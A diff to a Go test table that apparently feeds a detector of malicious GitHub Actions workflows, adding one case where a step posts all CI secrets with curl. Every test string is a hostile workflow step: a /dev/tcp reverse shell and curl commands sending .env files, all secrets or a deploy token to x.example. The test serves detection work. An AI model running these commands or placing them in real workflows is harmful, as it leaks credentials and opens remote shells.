@@ -26,6 +26,7 @@ func TestBuildJobs(t *testing.T) {
 		{".github/workflows/a.yml", "jobs: {a: {steps: [{run: 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'}]}}\n", true},
 		{".github/workflows/a.yml", "jobs: {a: {steps: [{run: 'curl -d @.env https://x.example'}]}}\n", true},
 		{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n    - run: echo \"${{ toJSON(secrets) }}\" | curl -d @- https://x.example\n", true},
+		{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n    - run: curl -d '${{ toJSON(secrets) }}' https://x.example\n", true},
 		{".github/workflows/a.yml", "jobs: {a: {steps: [{run: 'curl -d \"${{ toJson(secrets) }}\" https://x.example'}]}}\n", true},
 		{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n    - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://x.example\n", true},
 		{".github/workflows/a.yml", "jobs: {a: {steps: [{run: 'curl -d \"t=${{ secrets.DEPLOY_TOKEN }}\" https://x.example'}]}}\n", true},
